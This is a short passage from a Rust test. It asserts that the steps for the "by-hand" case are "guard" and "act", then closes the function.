    assert_eq!(steps_of("by-hand"), ["guard", "act"]);
}
